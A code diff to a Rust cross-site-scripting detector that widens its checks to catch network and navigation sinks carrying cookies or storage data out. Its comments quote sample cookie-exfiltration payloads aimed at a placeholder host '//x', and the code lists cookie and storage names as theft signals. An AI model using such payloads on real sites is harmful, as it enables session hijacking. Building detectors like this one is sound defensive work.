@@ -139,7 +139,7 @@ impl Check for XssJs {
     fn inspect(&self, input: &Input<'_>) -> Option<Finding> {
         // Every form needs a call (`(`), a template literal, or a handler assignment with
         // `throw`; `%` may hide them.
-        let assigns = input.bytes.contains(b'=') && input.text.contains("throw");
+        let assigns = input.bytes.contains(b'=') && ["throw", "location", "src"].iter().any(|w| input.text.contains(w));
         if !input.bytes.any(b"(`%") && !assigns || input.text.len() > 64 * 1024 {
             return None;
         }
@@ -170,7 +170,7 @@ impl Check for XssJs {
 /// prose with parentheses and none of those is not lexed.
 fn worth_lexing(input: &Input<'_>) -> bool {
     input.bytes.any(b"[\\%`")
-        || SINKS.iter().any(|n| input.text.contains(n))
+        || SINKS.iter().chain(&["location", "cookie", "Storage", "sendBeacon"]).any(|n| input.text.contains(n))
         || input.text.contains("on") && input.text.contains("throw")
 }
 
@@ -200,7 +200,8 @@ fn level_at(text: &str, depth: usize) -> Option<u8> {
         }
     }
     // A break-out from a quoted string: what follows the first quote is code.
-    for q in ['\'', '"', '`'] {
+    // (Not after a backtick: markdown inline code is everywhere in chat messages.)
+    for q in ['\'', '"'] {
         if let Some(at) = text.find(q) {
             if best != Some(1) {
                 consider(&mut best, scan(&text[at + 1..], long, true, depth));
@@ -266,7 +267,7 @@ fn scan(text: &str, long: bool, breakout: bool, depth: usize) -> Option<u8> {
         let template = t[k].kind == Kind::Template;
         if !(t[k].is(b'(') || template) {
             if t[k].is(b'=') {
-                if let Some(l) = assignment(&t, k, code_only, short && breakout) {
+                if let Some(l) = assignment(&t, k, code_only, short, breakout) {
                     found(l);
                 }
                 if let Some(alias) = alias_of(&t, k) {
@@ -313,7 +314,7 @@ fn scan(text: &str, long: bool, breakout: bool, depth: usize) -> Option<u8> {
                 });
             }
         }
-        if template && sink && !t[k].val.is_empty() {
+        if template && sink && !t[k].val.is_empty() && !t[k].open {
             at(if short || c.hidden { 1 } else { 2 });
         }
         if STRING_SINKS.contains(&name) && !template {
@@ -325,7 +326,13 @@ fn scan(text: &str, long: bool, breakout: bool, depth: usize) -> Option<u8> {
         if sink && !template && (name == "write" || name == "writeln") && c.object == "document" {
             at(if short { 1 } else { 3 });
         }
-        if matches!(name, "fetch" | "import" | "open" | "print") && !c.hidden {
+        // Network and navigation sinks: level 1 only in a short injected value or when they
+        // carry the page's secrets out (`fetch('//x/?'+document.cookie)`).
+        if matches!(name, "fetch" | "import" | "open" | "sendBeacon") && !template {
+            let exfil = secrets(&t, args.0, args.1);
+            at(if short && (breakout || exfil) { 1 } else if short { 2 } else { 3 });
+        }
+        if name == "print" && !c.hidden {
             at(3);
         }
         // Higher-order calls handed a sink: `[1].find(alert)`, `Reflect.apply(alert, ...)`.
@@ -351,6 +358,14 @@ fn scan(text: &str, long: bool, breakout: bool, depth: usize) -> Option<u8> {
     best
 }
 
+/// The tokens in `from..to` read the page's secrets (cookies, storage).
+fn secrets(t: &[Token], from: usize, to: usize) -> bool {
+    (from..to.min(t.len())).any(|j| {
+        t[j].kind == Kind::Ident && matches!(t[j].val.as_str(), "cookie" | "localStorage" | "sessionStorage")
+            || t[j].kind == Kind::Template && (t[j].val.contains("cookie") || t[j].val.contains("Storage"))
+    })
+}
+
 /// `x = alert` (then `x(1)`): the alias and the sink it names.
 fn alias_of(t: &[Token], k: usize) -> Option<(String, String)> {
     let (lhs, rhs) = (&t[k - 1], t.get(k + 1)?);
@@ -366,7 +381,7 @@ fn alias_of(t: &[Token], k: usize) -> Option<(String, String)> {
 }
 
 /// `location = 'javascript:...'`, `onerror = alert`, and navigation from an injected context.
-fn assignment(t: &[Token], k: usize, code_only: bool, injected: bool) -> Option<u8> {
+fn assignment(t: &[Token], k: usize, code_only: bool, short: bool, breakout: bool) -> Option<u8> {
     if k + 1 >= t.len()
         || t[k + 1].is(b'=')
         || t[k - 1].kind != Kind::Ident
@@ -383,7 +398,7 @@ fn assignment(t: &[Token], k: usize, code_only: bool, injected: bool) -> Option<
     {
         return Some(if code_only { 1 } else { 2 });
     }
-    if matches!(target, "location" | "href") {
+    if matches!(target, "location" | "href" | "src") {
         let end = (k + 2..t.len().min(k + 256)).find(|&j| t[j].is(b';')).unwrap_or(t.len().min(k + 256));
         if let Some(v) = fold(t, k + 1, end) {
             let s = v.into_string();
@@ -392,8 +407,9 @@ fn assignment(t: &[Token], k: usize, code_only: bool, injected: bool) -> Option<
                 return Some(1);
             }
         }
-        // Navigation from injected code (`javascript:document.location='//x'`, `';location=...`).
-        if injected && end > k + 1 {
+        // Navigation or a request from injected code (`javascript:document.location='//x'`,
+        // `';location=...`), or one carrying secrets (`new Image().src='//x?'+document.cookie`).
+        if short && end > k + 1 && (breakout && target != "src" || secrets(t, k + 1, end)) {
             return Some(1);
         }
     }
@@ -586,12 +602,12 @@ fn juxtapositions(t: &[Token]) -> usize {
     // A long prose comment, or a string left open over prose (the rest of a collapsed
     // multi-line snippet), counts as prose too.
     let wordy = |x: &Token| x.val.len() > 24 && x.val.bytes().filter(|&b| b == b' ').count() >= 4;
-    t.iter().filter(|x| x.kind == Kind::Comment || x.kind == Kind::Str && x.subst && wordy(x)).count()
+    t.iter().filter(|x| x.kind == Kind::Comment || x.kind == Kind::Str && x.open && wordy(x)).count()
         + t.windows(2)
             .filter(|w| {
                 let starts_value = match w[1].kind {
                     Kind::Ident => !KEYWORDS.contains(&w[1].val.as_str()),
-                    Kind::Str => !w[1].subst,
+                    Kind::Str => !w[1].open,
                     Kind::Num => true,
                     _ => false,
                 };
